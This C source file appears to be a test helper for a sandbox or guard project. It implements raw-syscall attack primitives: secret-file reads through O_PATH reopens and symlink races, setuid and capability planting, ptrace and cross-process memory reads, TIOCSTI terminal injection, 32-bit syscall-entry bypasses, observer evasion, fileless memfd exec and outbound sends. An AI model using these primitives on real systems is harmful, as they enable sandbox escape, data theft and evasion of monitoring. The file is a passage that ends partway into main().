/* attack_static OP ARGS...: the attack corpus's raw-syscall toolbox (the scripts in tests/attacks/).
 *
 * Statically linked and calling the kernel with syscall(2) (or `int $0x80` for the 32-bit entry), so no LD_PRELOAD
 * shim sees or helps anything here: only the kernel boundary decides. The helper does not judge: it prints what it
 * obtained (file contents on stdout) and one line per attempted call,
 *     RESULT <what>: ok            the kernel did it
 *     RESULT <what>: <ENAME>       the kernel refused with that errno (EPERM, EACCES, ENOSYS, ...)
 * and the attack scripts decide from that output (and from files and listeners outside) whether it was blocked.
 * Exit status: 0 when the final call succeeded, 1 when it failed, 2 bad usage.
 *
 * File reads (print the content):
 *   opath-reopen PATH           open(O_PATH), then open /proc/self/fd/N for reading
 *   opath-link PATH NEW         open(O_PATH), linkat(fd, "", NEW, AT_EMPTY_PATH), read NEW
 *   mmap PATH                   open + mmap + write the mapping out
 *   sendfile PATH               sendfile(2) to stdout
 *   copy PATH DST               copy_file_range(2) into DST (created), then print DST
 *   splice PATH                 splice(2) through a pipe to stdout
 *   race SECRET DECOY SECONDS   symlink race: one thread flips ./race-link between DECOY and SECRET, another opens
 *                               and reads it; prints every distinct content it read
 *   handle MOUNTDIR TYPE HEX    open_by_handle_at with a handle computed outside
 *   name2handle PATH            name_to_handle_at
 * Damage:
 *   otrunc PATH                 open(O_WRONLY|O_TRUNC)
 *   punch PATH                  open(O_WRONLY) + fallocate(PUNCH_HOLE|KEEP_SIZE) of the first 4 KiB
 *   chmod PATH OCTAL            fchmodat
 *   suid PATH                   create PATH (mode 0755), fchmod 04755 (and 02755 for setgid), print the mode
 *   setcap PATH                 setxattr security.capability (cap_setuid+ep)
 *   mknod PATH MAJOR MINOR      a block device node
 *   umount PATH FLAGS           umount2 (FLAGS: 0, detach, force, expire)
 *   bind SRC DST                mount(SRC, DST, MS_BIND)
 *   open-tree PATH DST          open_tree(OPEN_TREE_CLONE) + move_mount onto DST
 * Processes and kernel surface:
 *   kill PID SIG | pidfd-kill PID SIG | sigio PID     signal a process (sigio: F_SETOWN + O_ASYNC on a pipe)
 *   ptrace PID                  PTRACE_SEIZE, then PTRACE_INTERRUPT
 *   vmread PID ADDR             process_vm_readv of 64 bytes at ADDR (hex)
 *   pidfd-getfd PID FD          pidfd_getfd
 *   mem PID ADDR                read /proc/PID/mem at ADDR (hex)
 *   keyctl DESC                 search the user and session keyrings for a "user" key DESC and print its payload
 *   bpf | perf | perf-cpu | io_uring | userfaultfd
 *   unshare-user                unshare(CLONE_NEWUSER)
 *   clone-user                  clone(CLONE_NEWUSER|SIGCHLD) (what libc falls back to)
 *   clone3-user                 clone3 with CLONE_NEWUSER
 *   personality HEX             personality(HEX)
 *   tiocsti TEXT                ioctl(TIOCSTI) every byte of TEXT into fd 0, then /dev/tty
 *   tiocsti-hi TEXT             the same with garbage in the upper 32 bits of the command (the kernel ignores them)
 *   int80 CALL [ARG]            the same through the 32-bit entry (int $0x80): getpid (sanity), unshare-user,
 *                               clone-user, keyctl, ptrace PID, tiocsti TEXT, personality HEX, bpf, perf,
 *                               io_uring, umount PATH, mount-bind SRC:DST, open_by_handle, socket-inet,
 *                               open PATH (open(2), printing what it read), execve PATH (no arguments)
 * Hiding from the observer (the session magic, GUARD_MAGIC in the environment, where the shim puts it):
 *   magic-open PATH             openat with the magic in its unused fifth argument; prints what it read
 *   magic-exec PATH [ARGS...]   execve with the magic in its unused fourth argument
 *   site-open HEXOFF PATH       openat(AT_FDCWD, PATH, O_RDONLY|O_CLOEXEC) made from code copied into the mmap area
 *                               so that the address after its `syscall` has page offset HEXOFF (x86-64): where the
 *                               observer's filter recognises the dynamic loader's opens (loader_sites.h)
 * Exec:
 *   exec PATH [ARGS...]         execve(PATH) directly (no PATH search, no libc wrapper for a shim to see)
 *   memfd-exec PATH [ARGS...]   copy PATH into a memfd and execveat(fd, "", AT_EMPTY_PATH): a program with no path
 * Network (prints RESULT lines; the listener outside decides what arrived):
 *   tcp HOST PORT TEXT | udp HOST PORT TEXT | udp-connect HOST PORT
 *   unix PATH TEXT              stream unix socket; PATH "@name" is abstract
 *   unix-dgram PATH TEXT
 *   socket FAMILY               socket(FAMILY) only: inet, inet6, packet, netlink, vsock */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#ifndef FALLOC_FL_PUNCH_HOLE
#define FALLOC_FL_KEEP_SIZE 0x01
#define FALLOC_FL_PUNCH_HOLE 0x02
#endif
#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif
#ifndef MOVE_MOUNT_F_EMPTY_PATH
#define MOVE_MOUNT_F_EMPTY_PATH 0x00000004
#endif
#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif

static const char *op;

/* RESULT line for a call; returns 0 on success, 1 on failure. `r` < 0 means errno holds the reason. */
static int result(const char *what, long r)
{
	int e = errno;
	if (r >= 0)
		printf("RESULT %s: ok\n", what);
	else
		printf("RESULT %s: %s\n", what, strerrorname_np(e) ? strerrorname_np(e) : "E?");
	fflush(stdout);
	errno = e;
	return r >= 0 ? 0 : 1;
}

static int usage(void)
{
	fprintf(stderr, "attack_static: bad usage of %s (see the header of tests/bin/attack_static.c)\n", op ? op : "");
	return 2;
}

static void write_all(int fd, const void *p, size_t n)
{
	const char *c = p;
	while (n > 0) {
		long w = syscall(SYS_write, fd, c, n);
		if (w < 0 && errno == EINTR)
			continue;
		if (w <= 0)
			return;
		c += w;
		n -= (size_t)w;
	}
}

/* Print what a descriptor holds; RESULT line for the reads. */
static int cat_fd(long fd, const char *what)
{
	char buf[65536];
	long n, total = 0;
	while ((n = syscall(SYS_read, fd, buf, sizeof buf)) > 0) {
		write_all(1, buf, (size_t)n);
		total += n;
	}
	if (total)
		write_all(1, "\n", 1);
	return result(what, n < 0 ? -1 : 0);
}

static long sys_open(const char *path, int flags, int mode)
{
	return syscall(SYS_openat, AT_FDCWD, path, flags | O_CLOEXEC, mode);
}

/* --------------------------------------------------------------------------------------------- file reads */
static int op_opath_reopen(const char *path)
{
	long fd = sys_open(path, O_PATH, 0);
	if (result("open O_PATH", fd))
		return 1;
	char proc[64];
	snprintf(proc, sizeof proc, "/proc/self/fd/%ld", fd);
	long rfd = sys_open(proc, O_RDONLY, 0);
	if (result("reopen /proc/self/fd/N", rfd))
		return 1;
	return cat_fd(rfd, "read");
}

static int op_opath_link(const char *path, const char *newp)
{
	long fd = sys_open(path, O_PATH, 0);
	if (result("open O_PATH", fd))
		return 1;
	if (result("linkat AT_EMPTY_PATH", syscall(SYS_linkat, fd, "", AT_FDCWD, newp, AT_EMPTY_PATH)))
		return 1;
	long rfd = sys_open(newp, O_RDONLY, 0);
	if (result("open the new link", rfd))
		return 1;
	return cat_fd(rfd, "read");
}

static int op_mmap(const char *path)
{
	long fd = sys_open(path, O_RDONLY, 0);
	if (result("open", fd))
		return 1;
	struct stat st;
	if (result("fstat", syscall(SYS_fstat, fd, &st)))
		return 1;
	size_t len = st.st_size > 0 ? (size_t)st.st_size : 4096;
	void *p = (void *)syscall(SYS_mmap, NULL, len, PROT_READ, MAP_PRIVATE, fd, 0);
	if (result("mmap", p == MAP_FAILED ? -1 : 0))
		return 1;
	write_all(1, p, (size_t)st.st_size);
	write_all(1, "\n", 1);
	return 0;
}

static int op_sendfile(const char *path)
{
	long fd = sys_open(path, O_RDONLY, 0);
	if (result("open", fd))
		return 1;
	long n, total = 0;
	while ((n = syscall(SYS_sendfile, 1, fd, NULL, 65536)) > 0)
		total += n;
	if (total)
		write_all(1, "\n", 1);
	return result("sendfile", n);
}

static int op_copy(const char *path, const char *dst)
{
	long in = sys_open(path, O_RDONLY, 0);
	if (result("open", in))
		return 1;
	long out = sys_open(dst, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (result("open destination", out))
		return 1;
	long n;
	while ((n = syscall(SYS_copy_file_range, in, NULL, out, NULL, 65536, 0)) > 0)
		;
	if (result("copy_file_range", n))
		return 1;
	long r = sys_open(dst, O_RDONLY, 0);
	return result("open the copy", r) ? 1 : cat_fd(r, "read the copy");
}

static int op_splice(const char *path)
{
	long fd = sys_open(path, O_RDONLY, 0);
	if (result("open", fd))
		return 1;
	int p[2];
	if (result("pipe", syscall(SYS_pipe2, p, O_CLOEXEC)))
		return 1;
	long n = syscall(SYS_splice, fd, NULL, p[1], NULL, 65536, 0);
	if (result("splice file->pipe", n))
		return 1;
	return cat_fd(p[0], "read pipe") || 0;
}

/* The race: ./race-link flips between DECOY and SECRET (rename of a fresh symlink over it, atomic) while the
 * main thread opens ./race-link. Every distinct content read is printed once. */
static volatile int race_stop;
static const char *race_secret, *race_decoy;
static void *flipper(void *arg)
{
	(void)arg;
	for (unsigned long i = 0; !race_stop; i++) {
		const char *target = i & 1 ? race_secret : race_decoy;
		syscall(SYS_unlinkat, AT_FDCWD, "race-tmp", 0);
		if (syscall(SYS_symlinkat, target, AT_FDCWD, "race-tmp") == 0)
			syscall(SYS_renameat2, AT_FDCWD, "race-tmp", AT_FDCWD, "race-link", 0);
	}
	return NULL;
}

static int op_race(const char *secret, const char *decoy, const char *secs)
{
	race_secret = secret;
	race_decoy = decoy;
	syscall(SYS_symlinkat, decoy, AT_FDCWD, "race-link");
	pthread_t t;
	if (pthread_create(&t, NULL, flipper, NULL) != 0)
		return result("pthread_create", -1);
	char seen[8][256];
	int nseen = 0;
	unsigned long opens = 0, denied = 0;
	struct timespec start, now;
	clock_gettime(CLOCK_MONOTONIC, &start);
	double limit = atof(secs);
	for (;;) {
		clock_gettime(CLOCK_MONOTONIC, &now);
		if ((double)(now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9 > limit)
			break;
		long fd = sys_open("race-link", O_RDONLY, 0);
		opens++;
		if (fd < 0) {
			denied += errno == EACCES || errno == EPERM;
			continue;
		}
		char buf[256] = "";
		long n = syscall(SYS_read, fd, buf, sizeof buf - 1);
		syscall(SYS_close, fd);
		if (n <= 0)
			continue;
		buf[n] = 0;
		int known = 0;
		for (int i = 0; i < nseen; i++)
			known |= strcmp(seen[i], buf) == 0;
		if (!known && nseen < 8) {
			strcpy(seen[nseen++], buf);
			printf("read: %s%s", buf, buf[n - 1] == '\n' ? "" : "\n");
		}
	}
	race_stop = 1;
	pthread_join(t, NULL);
	syscall(SYS_unlinkat, AT_FDCWD, "race-link", 0);
	syscall(SYS_unlinkat, AT_FDCWD, "race-tmp", 0);
	printf("race: %lu opens, %lu denied\n", opens, denied);
	return result("race", 0);
}

static int hexval(int c)
{
	return c >= '0' && c <= '9'   ? c - '0'
	       : c >= 'a' && c <= 'f' ? c - 'a' + 10
	       : c >= 'A' && c <= 'F' ? c - 'A' + 10
				      : -1;
}

static int op_handle(const char *mountdir, const char *type, const char *hex)
{
	/* struct file_handle followed by its bytes, in one buffer (f_handle is a flexible array) */
	static unsigned char raw[sizeof(struct file_handle) + 128] __attribute__((aligned(8)));
	struct file_handle *fh = (struct file_handle *)raw;
	unsigned char *bytes = raw + sizeof(struct file_handle);
	size_t n = strlen(hex) / 2;
	if (n > 128)
		return usage();
	for (size_t i = 0; i < n; i++)
		bytes[i] = (unsigned char)(hexval(hex[2 * i]) << 4 | hexval(hex[2 * i + 1]));
	fh->handle_bytes = (unsigned)n;
	fh->handle_type = atoi(type);
	long mfd = sys_open(mountdir, O_PATH | O_DIRECTORY, 0);
	if (result("open mount dir", mfd))
		return 1;
	long fd = syscall(SYS_open_by_handle_at, mfd, fh, O_RDONLY);
	if (result("open_by_handle_at", fd))
		return 1;
	return cat_fd(fd, "read");
}

static int op_name2handle(const char *path)
{
	struct {
		struct file_handle fh;
		unsigned char buf[128];
	} h = {.fh.handle_bytes = 128};
	int mount_id;
	return result("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, path, &h.fh, &mount_id, 0));
}

/* ------------------------------------------------------------------------------------------------ damage */
static int op_punch(const char *path)
{
	long fd = sys_open(path, O_WRONLY, 0);
	if (result("open O_WRONLY", fd))
		return 1;
	return result("fallocate PUNCH_HOLE",
		      syscall(SYS_fallocate, fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0L, 4096L));
}

static int op_suid(const char *path)
{
	long fd = sys_open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (result("create", fd))
		return 1;
	static const char script[] = "#!/bin/sh\nid\n";
	write_all((int)fd, script, sizeof script - 1);
	int a = result("fchmod 04755", syscall(SYS_fchmod, fd, 04755));
	struct stat st;
	syscall(SYS_fstat, fd, &st);
	printf("mode after fchmod 04755: %o\n", (unsigned)st.st_mode & 07777);
	int b = result("fchmodat 06755", syscall(SYS_fchmodat, AT_FDCWD, path, 06755));
	syscall(SYS_fstat, fd, &st);
	printf("mode after fchmodat 06755: %o\n", (unsigned)st.st_mode & 07777);
	return a && b;
}

static int op_setcap(const char *path)
{
	/* vfs_cap_data revision 2: cap_setuid (7) permitted + effective */
	uint32_t cap[5] = {0x02000000 | 1, 1u << 7, 0, 0, 0};
	return result("setxattr security.capability",
		      syscall(SYS_setxattr, path, "security.capability", cap, sizeof cap, 0));
}

static int umount_flags(const char *s)
{
	return strcmp(s, "detach") == 0   ? MNT_DETACH
	       : strcmp(s, "force") == 0  ? MNT_FORCE
	       : strcmp(s, "expire") == 0 ? MNT_EXPIRE
					  : 0;
}

static int op_open_tree(const char *path, const char *dst)
{
	long fd = syscall(SYS_open_tree, AT_FDCWD, path, OPEN_TREE_CLONE | O_CLOEXEC);
	if (result("open_tree CLONE", fd))
		return 1;
	return result("move_mount", syscall(SYS_move_mount, fd, "", AT_FDCWD, dst, MOVE_MOUNT_F_EMPTY_PATH));
}

/* ----------------------------------------------------------------------------------------------- processes */
static int op_sigio(pid_t pid)
{
	int p[2];
	if (result("pipe", syscall(SYS_pipe2, p, 0)))
		return 1;
	if (result("fcntl F_SETOWN", syscall(SYS_fcntl, p[0], F_SETOWN, pid)))
		return 1;
	if (result("fcntl O_ASYNC", syscall(SYS_fcntl, p[0], F_SETFL, O_ASYNC | O_NONBLOCK)))
		return 1;
	write_all(p[1], "x", 1); /* readable now: SIGIO goes to the owner */
	struct timespec ts = {0, 100000000};
	nanosleep(&ts, NULL);
	return result("sigio sent", 0);
}

static int op_ptrace(pid_t pid)
{
	long r = syscall(SYS_ptrace, PTRACE_SEIZE, pid, 0, 0);
	if (result("ptrace SEIZE", r))
		return 1;
	r = syscall(SYS_ptrace, PTRACE_INTERRUPT, pid, 0, 0);
	result("ptrace INTERRUPT", r);
	syscall(SYS_ptrace, PTRACE_DETACH, pid, 0, 0);
	return 0;
}

static int op_vmread(pid_t pid, const char *addr)
{
	char buf[64];
	struct iovec local = {buf, sizeof buf}, remote = {(void *)strtoul(addr, NULL, 16), sizeof buf};
	long n = syscall(SYS_process_vm_readv, pid, &local, 1, &remote, 1, 0);
	if (result("process_vm_readv", n))
		return 1;
	write_all(1, buf, (size_t)n);
	write_all(1, "\n", 1);
	return 0;
}

static int op_mem(pid_t pid, const char *addr)
{
	char path[64], buf[4096];
	snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
	long fd = sys_open(path, O_RDONLY, 0);
	if (result("open /proc/PID/mem", fd))
		return 1;
	long n = syscall(SYS_pread64, fd, buf, sizeof buf, (long)strtoul(addr, NULL, 16));
	if (result("pread /proc/PID/mem", n))
		return 1;
	write_all(1, buf, (size_t)n);
	write_all(1, "\n", 1);
	return 0;
}

static int op_keyctl(const char *desc)
{
	long ids[] = {KEY_SPEC_USER_KEYRING, KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_SESSION_KEYRING};
	long r = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0);
	if (result("keyctl GET_KEYRING_ID @u", r))
		return 1;
	for (size_t i = 0; i < sizeof ids / sizeof *ids; i++) {
		long key = syscall(SYS_keyctl, KEYCTL_SEARCH, ids[i], "user", desc, 0);
		if (key < 0)
			continue;
		char buf[512];
		long n = syscall(SYS_keyctl, KEYCTL_READ, key, buf, sizeof buf - 1);
		if (result("keyctl READ", n))
			return 1;
		buf[n < (long)sizeof buf ? n : (long)sizeof buf - 1] = 0;
		printf("key payload: %s\n", buf);
		return 0;
	}
	return result("keyctl SEARCH", -1);
}

static int op_bpf(void)
{
	union bpf_attr a;
	memset(&a, 0, sizeof a);
	a.map_type = BPF_MAP_TYPE_ARRAY;
	a.key_size = 4;
	a.value_size = 4;
	a.max_entries = 1;
	return result("bpf MAP_CREATE", syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a));
}

static int op_perf(int system_wide)
{
	struct perf_event_attr a;
	memset(&a, 0, sizeof a);
	a.size = sizeof a;
	a.type = PERF_TYPE_SOFTWARE;
	a.config = PERF_COUNT_SW_CPU_CLOCK;
	a.disabled = 1;
	return result(system_wide ? "perf_event_open cpu 0, all processes" : "perf_event_open self",
		      syscall(SYS_perf_event_open, &a, system_wide ? -1 : 0, system_wide ? 0 : -1, -1, 0));
}

static int op_io_uring(void)
{
	struct io_uring_params p;
	memset(&p, 0, sizeof p);
	return result("io_uring_setup", syscall(SYS_io_uring_setup, 8, &p));
}

static int op_clone_user(void)
{
	long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
	if (pid == 0)
		syscall(SYS_exit, 0);
	if (pid > 0)
		waitpid((pid_t)pid, NULL, 0);
	return result("clone CLONE_NEWUSER", pid);
}

static int op_clone3_user(void)
{
	struct clone_args a;
	memset(&a, 0, sizeof a);
	a.flags = CLONE_NEWUSER;
	a.exit_signal = SIGCHLD;
	long pid = syscall(SYS_clone3, &a, sizeof a);
	if (pid == 0)
		syscall(SYS_exit, 0);
	if (pid > 0)
		waitpid((pid_t)pid, NULL, 0);
	return result("clone3 CLONE_NEWUSER", pid);
}

static int op_tiocsti(const char *text, unsigned long cmd)
{
	int bad = 0, any = 0;
	long tty = sys_open("/dev/tty", O_RDWR | O_NOCTTY, 0);
	result("open /dev/tty", tty);
	long fds[] = {0, tty};
	for (size_t i = 0; i < 2; i++) {
		if (fds[i] < 0)
			continue;
		long r = 0;
		for (const char *c = text; *c && r >= 0; c++)
			r = syscall(SYS_ioctl, fds[i], cmd, c);
		bad |= result(i == 0 ? "ioctl TIOCSTI fd 0" : "ioctl TIOCSTI /dev/tty", r);
		any |= r >= 0;
	}
	return !any;
}

/* ------------------------------------------------------------------------------------- 32-bit entry (i386) */
/* Buffers for the 32-bit calls live in .data/.bss of this non-PIE static binary: their addresses fit in 32 bits,
 * which the i386 entry truncates every argument to. */
static char i32_buf[4096], i32_buf2[4096];
static struct perf_event_attr i32_perf;
static union bpf_attr i32_bpf;
static struct io_uring_params i32_uring;
static char i32_ch;

static long int80(long nr, long a, long b, long c, long d, long e)
{
	long r;
	/* i386 convention: eax = number; ebx, ecx, edx, esi, edi = arguments. The kernel zeroes r8-r11 on return. */
	__asm__ volatile("int $0x80"
			 : "=a"(r)
			 : "0"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e)
			 : "memory", "cc", "r8", "r9", "r10", "r11");
	if (r < 0 && r > -4096) {
		errno = (int)-r;
		return -1;
	}
	return r;
}

static int fits32(const void *p)
{
	return (uintptr_t)p < 0xffffffffu;
}

static int op_int80(const char *call, const char *arg)
{
	char what[64];
	snprintf(what, sizeof what, "int80 %s", call);
	if (!fits32(i32_buf)) {
		fprintf(stderr, "attack_static: data above 4 GiB (a PIE build?): the 32-bit entry cannot address it\n");
		return 2;
	}
	if (strcmp(call, "getpid") == 0)
		return result(what, int80(20, 0, 0, 0, 0, 0));
	if (strcmp(call, "unshare-user") == 0)
		return result(what, int80(310, CLONE_NEWUSER, 0, 0, 0, 0));
	if (strcmp(call, "clone-user") == 0) {
		/* i386 clone(flags, stack, parent_tid, tls, child_tid): a fork-like clone, the child exits at once */
		long pid = int80(120, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
		if (pid == 0)
			syscall(SYS_exit, 0);
		if (pid > 0)
			waitpid((pid_t)pid, NULL, 0);
		return result(what, pid);
	}
	if (strcmp(call, "keyctl") == 0)
		return result(what, int80(288, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0, 0, 0));
	if (strcmp(call, "ptrace") == 0 && arg) {
		long r = int80(26, PTRACE_ATTACH, atol(arg), 0, 0, 0);
		if (r >= 0)
			int80(26, PTRACE_DETACH, atol(arg), 0, 0, 0);
		return result(what, r);
	}
	if (strcmp(call, "tiocsti") == 0 && arg) {
		long r = 0;
		for (const char *c = arg; *c && r >= 0; c++) {
			i32_ch = *c;
			r = int80(54, 0, TIOCSTI, (long)(uintptr_t)&i32_ch, 0, 0);
		}
		return result(what, r);
	}
	if (strcmp(call, "personality") == 0 && arg)
		return result(what, int80(136, (long)strtoul(arg, NULL, 16), 0, 0, 0, 0));
	if (strcmp(call, "bpf") == 0) {
		i32_bpf.map_type = BPF_MAP_TYPE_ARRAY;
		i32_bpf.key_size = 4;
		i32_bpf.value_size = 4;
		i32_bpf.max_entries = 1;
		return result(what, int80(357, BPF_MAP_CREATE, (long)(uintptr_t)&i32_bpf, sizeof i32_bpf, 0, 0));
	}
	if (strcmp(call, "perf") == 0) {
		i32_perf.size = sizeof i32_perf;
		i32_perf.type = PERF_TYPE_SOFTWARE;
		i32_perf.config = PERF_COUNT_SW_CPU_CLOCK;
		i32_perf.disabled = 1;
		return result(what, int80(336, (long)(uintptr_t)&i32_perf, 0, -1, -1, 0));
	}
	if (strcmp(call, "io_uring") == 0)
		return result(what, int80(425, 8, (long)(uintptr_t)&i32_uring, 0, 0, 0));
	if (strcmp(call, "umount") == 0 && arg) {
		snprintf(i32_buf, sizeof i32_buf, "%s", arg);
		return result(what, int80(52, (long)(uintptr_t)i32_buf, MNT_DETACH, 0, 0, 0));
	}
	if (strcmp(call, "mount-bind") == 0 && arg && strchr(arg, ':')) {
		snprintf(i32_buf, sizeof i32_buf, "%.*s", (int)(strchr(arg, ':') - arg), arg);
		snprintf(i32_buf2, sizeof i32_buf2, "%s", strchr(arg, ':') + 1);
		return result(what, int80(21, (long)(uintptr_t)i32_buf, (long)(uintptr_t)i32_buf2, 0, MS_BIND, 0));
	}
	if (strcmp(call, "open_by_handle") == 0)
		return result(what, int80(342, AT_FDCWD, (long)(uintptr_t)i32_buf, 0, 0, 0));
	if (strcmp(call, "socket-inet") == 0)
		return result(what, int80(359, AF_INET, SOCK_STREAM, 0, 0, 0)); /* i386 socket(2) */
	if (strcmp(call, "open") == 0 && arg) {
		snprintf(i32_buf, sizeof i32_buf, "%s", arg);
		long fd = int80(5, (long)(uintptr_t)i32_buf, O_RDONLY, 0, 0, 0); /* i386 open(2) */
		return result(what, fd) ? 1 : cat_fd(fd, "read");
	}
	if (strcmp(call, "execve") == 0 && arg) {
		static uint32_t argv32[2], envp32[1];
		snprintf(i32_buf, sizeof i32_buf, "%s", arg);
		argv32[0] = (uint32_t)(uintptr_t)i32_buf;
		return result(what, int80(11, (long)(uintptr_t)i32_buf, (long)(uintptr_t)argv32,
					  (long)(uintptr_t)envp32, 0, 0)); /* i386 execve(2) */
	}
	return usage();
}

/* ------------------------------------------------------------------------------------------------- network */
static int inet_addr_of(const char *host, const char *port, struct sockaddr_storage *ss, socklen_t *len)
{
	memset(ss, 0, sizeof *ss);
	struct sockaddr_in *a = (struct sockaddr_in *)ss;
	struct sockaddr_in6 *b = (struct sockaddr_in6 *)ss;
	if (inet_pton(AF_INET, host, &a->sin_addr) == 1) {
		a->sin_family = AF_INET;
		a->sin_port = htons((uint16_t)atoi(port));
		*len = sizeof *a;
		return 0;
	}
	if (inet_pton(AF_INET6, host, &b->sin6_addr) == 1) {
		b->sin6_family = AF_INET6;
		b->sin6_port = htons((uint16_t)atoi(port));
		*len = sizeof *b;
		return 0;
	}
	return -1;
}

static int connect_timeout(long fd, const struct sockaddr *sa, socklen_t len, const char *what)
{
	long fl = syscall(SYS_fcntl, fd, F_GETFL);
	syscall(SYS_fcntl, fd, F_SETFL, fl | O_NONBLOCK);
	long r = syscall(SYS_connect, fd, sa, len);
	if (r < 0 && errno == EINPROGRESS) {
		struct pollfd p = {(int)fd, POLLOUT, 0};
		if (poll(&p, 1, 3000) == 1) {
			int err = 0;
			socklen_t l = sizeof err;
			syscall(SYS_getsockopt, fd, SOL_SOCKET, SO_ERROR, &err, &l);
			errno = err;
			r = err ? -1 : 0;
		} else {
			errno = ETIMEDOUT;
		}
	}
	syscall(SYS_fcntl, fd, F_SETFL, fl);
	return result(what, r);
}

static int op_inet(int type, const char *host, const char *port, const char *text)
{
	struct sockaddr_storage ss;
	socklen_t len;
	if (inet_addr_of(host, port, &ss, &len) != 0)
		return usage();
	long fd = syscall(SYS_socket, ss.ss_family, type | SOCK_CLOEXEC, 0);
	if (result("socket", fd))
		return 1;
	if (type == SOCK_DGRAM && text) {
		long r = syscall(SYS_sendto, fd, text, strlen(text), 0, (struct sockaddr *)&ss, len);
		return result("sendto", r);
	}
	if (connect_timeout(fd, (struct sockaddr *)&ss, len, "connect"))
		return 1;
	if (!text)
		return 0;
	return result("send", syscall(SYS_sendto, fd, text, strlen(text), MSG_NOSIGNAL, NULL, 0));
}

static int op_unix(int type, const char *path, const char *text)
{
	struct sockaddr_un sun = {.sun_family = AF_UNIX};
	size_t n = strlen(path);
	if (n >= sizeof sun.sun_path)
		return usage();
	memcpy(sun.sun_path, path, n);
	if (path[0] == '@')
		sun.sun_path[0] = 0;
	socklen_t len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + n + (path[0] != '@'));
	long fd = syscall(SYS_socket, AF_UNIX, type | SOCK_CLOEXEC, 0);
	if (result("socket AF_UNIX", fd))
		return 1;
	if (type == SOCK_DGRAM)
		return result("sendto", syscall(SYS_sendto, fd, text, strlen(text), 0, &sun, len));
	if (result("connect", syscall(SYS_connect, fd, &sun, len)))
		return 1;
	return result("send", syscall(SYS_sendto, fd, text, strlen(text), MSG_NOSIGNAL, NULL, 0));
}

static int op_socket(const char *fam)
{
	static const struct {
		const char *name;
		int family, type, proto;
	} f[] = {
		{"inet", AF_INET, SOCK_STREAM, 0},   {"inet6", AF_INET6, SOCK_STREAM, 0},
		{"packet", AF_PACKET, SOCK_RAW, 0},  {"netlink", AF_NETLINK, SOCK_RAW, 0},
		{"vsock", AF_VSOCK, SOCK_STREAM, 0},
	};
	for (size_t i = 0; i < sizeof f / sizeof *f; i++)
		if (strcmp(fam, f[i].name) == 0) {
			char what[64];
			snprintf(what, sizeof what, "socket %s", fam);
			return result(what, syscall(SYS_socket, f[i].family, f[i].type | SOCK_CLOEXEC, f[i].proto));
		}
	return usage();
}

/* The session magic from the environment (hex), as the shim reads it; 0 when absent. */
static unsigned long long env_magic(void)
{
	const char *m = getenv("GUARD_MAGIC");
	return m ? strtoull(m, NULL, 16) : 0;
}

static int op_magic_open(const char *path)
{
	long fd = syscall(SYS_openat, AT_FDCWD, path, O_RDONLY | O_CLOEXEC, 0, env_magic());
	return result("magic openat", fd) ? 1 : cat_fd(fd, "read");
}

static int op_site_open(const char *hexoff, const char *path)
{
#if defined(__x86_64__)
	/* mov $257,%eax; syscall; ret: the arguments are already where openat wants them (rdi, rsi, rdx) */
	static const unsigned char stub[] = {0xb8, 0x01, 0x01, 0x00, 0x00, 0x0f, 0x05, 0xc3};
	unsigned long off = strtoul(hexoff, NULL, 16) & 0xfff;
	unsigned char *pages = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (pages == MAP_FAILED)
		return result("site mmap", -1);
	unsigned char *code = pages + 4096 + off - 7; /* the syscall ends at offset `off` of the second page */
	memcpy(code, stub, sizeof stub);
	if (mprotect(pages, 8192, PROT_READ | PROT_EXEC) != 0)
		return result("site mprotect", -1);
	long (*call)(long, const char *, long) = (long (*)(long, const char *, long))(void *)code;
	long fd = call(AT_FDCWD, path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		errno = (int)-fd;
		fd = -1;
	}
	printf("site %p\n", (void *)(code + 7));
	return result("site openat", fd) ? 1 : cat_fd(fd, "read");
#else
	(void)hexoff;
	(void)path;
	errno = ENOSYS;
	return result("site openat", -1);
#endif
}

static int op_magic_exec(char **argv)
{
	extern char **environ;
	syscall(SYS_execve, argv[0], argv, environ, env_magic());
	return result("magic execve", -1);
}

static int op_exec(int argc, char **argv, int memfd)
{
	extern char **environ;
	const char *path = argv[0];
	if (!memfd) {
		syscall(SYS_execve, path, argv, environ);
		return result("execve", -1);
	}
	long in = sys_open(path, O_RDONLY, 0);
	if (result("open", in))
		return 1;
	long fd = syscall(SYS_memfd_create, "payload", 0);
	if (result("memfd_create", fd))
		return 1;
	char buf[65536];
	long n;
	while ((n = syscall(SYS_read, in, buf, sizeof buf)) > 0)
		write_all((int)fd, buf, (size_t)n);
	(void)argc;
	syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH);
	return result("execveat memfd", -1);
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return usage();
	op = argv[1];
